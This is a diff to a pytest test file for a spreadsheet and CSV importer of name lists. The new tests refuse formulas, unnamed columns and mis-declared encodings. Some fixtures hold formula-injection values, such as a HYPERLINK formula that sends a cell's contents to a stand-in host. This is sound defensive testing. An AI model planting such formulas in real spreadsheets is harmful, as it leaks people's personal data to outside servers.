@@ -73,8 +73,7 @@ def test_every_bad_cell_is_named_in_one_refusal() -> None:
     with pytest.raises(TableError) as refusal:
         read(xlsx([["name", "year"], ["A", "=1+1"], ["=B2", "1990"]]))
     assert str(refusal.value) == (
-        "Row 2, column 2 is a formula. Type the value itself. "
-        "Row 3, column 1 is a formula. Type the value itself."
+        "Cell B2 is a formula. Type the value itself. Cell A3 is a formula. Type the value itself."
     )
 
 
@@ -104,8 +103,37 @@ def test_xlsx_reads_the_first_sheet_and_refuses_formulas() -> None:
         (2, {"name": "Нұрлан", "birth_year": "1985"}),
         (4, {"name": "شریفی", "birth_year": ""}),
     ]
-    with pytest.raises(TableError, match="Row 2, column 2 is a formula"):
+    with pytest.raises(TableError, match="Cell B2 is a formula"):
         read(xlsx([["name", "year"], ["A", "=1+1"]]))
+
+
+def test_a_formula_past_the_columns_read_is_refused_too() -> None:
+    """Found by exploratory testing (10a): the list's sheet was read 51 columns wide, and
+    a formula in column 52 was never looked at; the file, kept whole, was downloaded with
+    it live (``=HYPERLINK("http://…?leak="&A2)``)."""
+    book = Workbook()
+    sheet = book.active
+    sheet.append(["name", "birth_year"])
+    sheet.append(["Akmaral Tursynova", 1986])
+    sheet.cell(row=2, column=52, value='=HYPERLINK("http://example.invalid/?x="&A2)')
+    sheet.cell(row=3, column=200, value="=1+1")
+    sheet.cell(row=3, column=1, value="Aidos")
+    sheet.cell(row=4, column=300, value="text, not a formula")
+    sheet.cell(row=4, column=1, value="Bek")
+    out = io.BytesIO()
+    book.save(out)
+    with pytest.raises(TableError) as refused:
+        read(out.getvalue())
+    assert str(refused.value) == (
+        "Cell AZ2 is a formula, past the columns a list may have. Delete it, or save the list "
+        "as CSV. Cell GR3 is a formula, past the columns a list may have. Delete it, or save "
+        "the list as CSV."
+    )
+    sheet.cell(row=2, column=52).value = None
+    sheet.cell(row=3, column=200).value = None
+    out = io.BytesIO()
+    book.save(out)
+    assert [line for line, _row in read(out.getvalue()).rows] == [2, 3, 4]
 
 
 def test_xlsx_dates_read_as_dates_and_times_of_day_are_kept() -> None:
@@ -266,8 +294,8 @@ def test_array_and_data_table_formulas_and_formula_like_text_in_xlsx_are_refused
     with pytest.raises(TableError) as refusal:
         read(out.getvalue())
     assert str(refusal.value) == (
-        "Row 2, column 2 is a formula. Type the value itself. "
-        "Row 3, column 2 is a formula. Type the value itself. "
+        "Cell B2 is a formula. Type the value itself. "
+        "Cell B3 is a formula. Type the value itself. "
         "Line 4, column name looks like a spreadsheet formula (-1+1). Type the value itself."
     )
     assert "object at" not in str(refusal.value)
@@ -324,7 +352,8 @@ def test_utf16_without_a_byte_order_mark_is_read_when_named(order: str) -> None:
     """Its NUL bytes made it "neither a CSV nor an XLSX spreadsheet" even when the user
     named UTF-16; the byte order is told by where they fall."""
     data = CYRILLIC.encode(order)
-    with pytest.raises(TableError, match="neither a CSV nor an XLSX"):
+    # Said to be what it is (found by exploratory testing, 10a).
+    with pytest.raises(TableError, match="looks like UTF-16 without its byte-order mark"):
         read(data)
     for named in ("utf_16", order):
         table = read(data, encoding=named)
@@ -333,7 +362,7 @@ def test_utf16_without_a_byte_order_mark_is_read_when_named(order: str) -> None:
             2,
             {"name": "Айбек Шарипов", "birth_year": "1990", "city": "karachi"},
         )
-    with pytest.raises(TableError, match="neither a CSV nor an XLSX"):
+    with pytest.raises(TableError, match="looks like UTF-16 without its byte-order mark"):
         read(data, encoding="cp1251")
 
 
@@ -398,7 +427,7 @@ def test_every_sheet_is_checked_for_formulas_and_the_first_shown_one_is_read() -
     notes.append(["a note", '=HYPERLINK("http://example.invalid/","x")'])
     out = io.BytesIO()
     book.save(out)
-    with pytest.raises(TableError, match="Sheet “Notes”, row 1, column 2 is a formula"):
+    with pytest.raises(TableError, match="Sheet “Notes”, cell B1 is a formula"):
         read(out.getvalue())
     # A hidden first sheet is not the list a person opening the file sees.
     book = Workbook()
@@ -437,4 +466,77 @@ def test_a_formula_in_a_headers_last_cell_is_the_one_problem_named() -> None:
     data = xlsx([["name", '=HYPERLINK("http://x","birth_year")'], ["Kanat Zhumabekov", 1984]])
     with pytest.raises(TableError) as refused:
         read(data)
-    assert str(refused.value) == "Row 1, column 2 is a formula. Type the value itself."
+    assert str(refused.value) == "Cell B1 is a formula. Type the value itself."
+
+
+# Found by exploratory testing (10a) ----------------------------------------------------
+
+
+def test_a_column_without_a_name_that_holds_values_is_refused() -> None:
+    """A blank header cell, or a spreadsheet's header merged over given name and family
+    name, lost the column's values unsaid: people were imported as "Merged" for
+    "Merged Surnamova", and lists were matched on half the name."""
+    with pytest.raises(TableError) as refused:
+        read(b"name,,city\nBlank,Hdrova,karachi\nSecond,,quetta\n")
+    assert str(refused.value) == (
+        "Column 2 has no name in the header, but holds values (line 2: “Hdrova”). "
+        "Name the column, or delete it."
+    )
+    book = Workbook()
+    sheet = book.active
+    for row in (["name", None, "city"], ["Merged", "Surnamova", "karachi"]):
+        sheet.append(row)
+    sheet.merge_cells("A1:B1")
+    out = io.BytesIO()
+    book.save(out)
+    with pytest.raises(TableError, match=r"Column B has no name in the header, .*“Surnamova”"):
+        read(out.getvalue())
+    # An empty column without a name is no loss.
+    assert read(b"name,,city\nBlank,,karachi\n").rows == [(2, {"name": "Blank", "city": "karachi"})]
+
+
+def test_a_utf8_file_read_as_a_code_page_named_is_refused() -> None:
+    data = "name,father_name\nآقمرال تورسینوا,بولات\n".encode()
+    for named in ("cp1256", "koi8_r", "cp1251"):
+        with pytest.raises(TableError, match=f"The file is in UTF-8, not {named}"):
+            read(data, encoding=named)
+    assert read(data, encoding="utf-8").rows[0][1]["name"] == "آقمرال تورسینوا"
+    assert read(b"name\nAidos\n", encoding="cp1251").rows == [(2, {"name": "Aidos"})]  # ASCII
+
+
+def test_a_header_too_wide_is_refused_before_its_cells_are_checked(monkeypatch: Any) -> None:
+    """A header of millions of cells was checked cell by cell (a minute, a gigabyte)
+    before "more than 50 columns"."""
+    from qandas.matching import tables
+
+    checked: list[tuple[Any, ...]] = []
+    real = tables._check_cell
+
+    def counted(*args: Any) -> None:
+        checked.append(args)
+        real(*args)
+
+    monkeypatch.setattr(tables, "_check_cell", counted)
+    with pytest.raises(TableError, match="more than 50 columns"):
+        read(b"name," + b"=a," * 100_000 + b"\nAidos\n")
+    assert checked == []
+
+
+def test_messages_say_what_is_wrong_with_the_encoding_and_where(tmp_path: Any) -> None:
+    from qandas.matching.tables import read_path
+
+    # UTF-32 with its mark: read, not refused as UTF-16 with NULs in "n_a_m_e".
+    assert read(CYRILLIC.encode("utf-32")).rows[0][1]["name"] == "Айбек Шарипов"
+    # One stray byte of a code page in a UTF-8 file: its line.
+    stray = CYRILLIC.encode() + "Дана Сеитова,1991,karachi\n".encode() + b"Bek \x96 Ali,1990,\n"
+    with pytest.raises(TableError, match=r"UTF-8, but line 5 holds a byte that is not \(0x96"):
+        read(stray)
+    # A NUL byte in the first 4 KB is named with its line, as one further on is.
+    with pytest.raises(
+        TableError, match=r"Line 3, column name holds a control character \(U\+0000\)"
+    ):
+        read(b"name,city\nAidos,karachi\nBe\x00k,quetta\n" + b"Dana,karachi\n" * 20)
+    with pytest.raises(TableError, match=r"^Line 2: a cell is too long\.$"):
+        read(b"name\n" + b"a" * 200_000 + b"\n")
+    with pytest.raises(TableError, match="is not a file"):
+        read_path(tmp_path)
